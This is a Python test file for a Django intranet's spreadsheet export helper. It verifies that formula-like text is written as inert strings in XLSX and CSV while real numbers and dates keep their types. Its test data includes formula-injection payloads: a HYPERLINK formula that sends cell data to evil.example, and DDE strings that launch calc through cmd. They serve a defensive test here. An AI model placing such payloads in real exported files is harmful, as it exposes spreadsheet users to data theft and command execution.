"""The shared export helper: typed text stays text in XLSX and CSV, our own numbers stay numbers."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from intranet.exports import Table, export_response, is_formula_like, to_csv, to_xlsx

ATTACK = '=HYPERLINK("https://evil.example/?d="&B3,"Klik hier")'
DANGEROUS = [
    ATTACK,
    "=1+1",
    "+31 6 12345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
HARMLESS = ["Jan de Vries", "Team Financiën", "0612345678", "a=b", "info@westbetuwe.nl", "–"]


def read_xlsx(content, sheet=None):
    workbook = load_workbook(io.BytesIO(content))
    return workbook[sheet] if sheet else workbook.active


def read_csv(content):
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_is_recognised(text):
    assert is_formula_like(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text):
    assert not is_formula_like(text)


def test_xlsx_writes_every_formula_like_text_as_an_inert_string():
    content = to_xlsx(Table(["Naam"], [[text] for text in DANGEROUS]))

    cells = [row[0] for row in read_xlsx(content).iter_rows(min_row=2)]
    # XML reads a carriage return back as a line feed.
    assert [cell.value for cell in cells] == [text.replace("\r", "\n") for text in DANGEROUS]
    for cell in cells:
        assert cell.data_type == "s", cell.value
        assert cell.quotePrefix is True, cell.value


def test_xlsx_file_holds_no_formula_at_all():
    content = to_xlsx(Table([ATTACK], [[ATTACK, "+1", "-1", "@A1"]]))

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    assert "HYPERLINK" in sheet_xml  # there, as text


def test_xlsx_leaves_ordinary_text_without_a_quote_prefix():
    content = to_xlsx(Table(["Naam"], [[text] for text in HARMLESS]))

    cells = [row[0] for row in read_xlsx(content).iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == HARMLESS
    assert all(cell.data_type == "s" and not cell.quotePrefix for cell in cells)


def test_csv_prefixes_every_formula_like_text_with_a_single_quote():
    content = to_csv(Table(["Naam"], [[text] for text in DANGEROUS]))

    rows = read_csv(content)
    assert rows[0] == ["Naam"]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in DANGEROUS]


def test_csv_leaves_ordinary_text_as_it_is():
    rows = read_csv(to_csv(Table(["Naam"], [[text] for text in HARMLESS])))

    assert [row[0] for row in rows[1:]] == HARMLESS


def test_our_own_numbers_dates_and_booleans_stay_typed():
    moment = timezone.make_aware(datetime.datetime(2026, 3, 2, 14, 30))
    row = [-3, -1.5, Decimal("-7.50"), True, datetime.date(2026, 3, 2), moment, "-3"]

    cells = next(read_xlsx(to_xlsx(Table(list("abcdefg"), [row]))).iter_rows(min_row=2))
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "b", "d", "d", "s"]
    assert [cell.value for cell in cells[:4]] == [-3, -1.5, -7.5, True]
    assert cells[4].value == datetime.datetime(2026, 3, 2)
    # Local time (Europe/Amsterdam), since Excel knows no time zones.
    assert cells[5].value == datetime.datetime(2026, 3, 2, 14, 30)
    assert cells[2].number_format == "0.00"
    assert cells[6].value == "-3" and cells[6].quotePrefix

    csv_row = read_csv(to_csv(Table(list("abcdefg"), [row])))[1]
    assert csv_row == ["-3", "-1,5", "-7,50", "True", "2026-03-02", "2026-03-02 14:30", "'-3"]


def test_headings_and_preamble_are_neutralised_too():
    table = Table([ATTACK, "Aantal"], [["x", 1]], title="Status", preamble=[["=Titel"], []])

    sheet = read_xlsx(to_xlsx(table))
    assert sheet["A1"].value == "=Titel" and sheet["A1"].data_type == "s"
    assert sheet["A2"].value is None
    assert sheet["A3"].value == ATTACK and sheet["A3"].data_type == "s" and sheet["A3"].font.bold
    assert sheet["B4"].value == 1

    rows = read_csv(to_csv(table))
    assert rows[:3] == [["'=Titel"], [], ["'" + ATTACK, "Aantal"]]


def test_several_tables_become_sheets_and_blocks():
    first = Table(["Kengetal"], [[1]], title="Stand")
    second = Table(["Maand"], [["mei 2026"]], title="Per maand: 2026/05")

    workbook = load_workbook(io.BytesIO(to_xlsx(first, second)))
    # Characters Excel refuses in a sheet title are dropped.
    assert workbook.sheetnames == ["Stand", "Per maand 202605"]
    assert read_csv(to_csv(first, second)) == [["Kengetal"], ["1"], [], ["Maand"], ["mei 2026"]]


def test_characters_xml_cannot_hold_do_not_break_the_file():
    content = to_xlsx(Table(["Naam"], [["Jan\x07 de\x1b Vries"], ["x" * 40_000]]))

    sheet = read_xlsx(content)
    assert sheet["A2"].value == "Jan de Vries"
    assert len(sheet["A3"].value) == 32_767


def test_export_response_is_a_download():
    response = export_response("csv", "deelnemers", Table(["Naam"], [[ATTACK]]))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="deelnemers.csv"'
    assert read_csv(response.content)[1] == ["'" + ATTACK]

    response = export_response("xlsx", "deelnemers", Table(["Naam"], [[ATTACK]]))
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert read_xlsx(response.content)["A2"].data_type == "s"
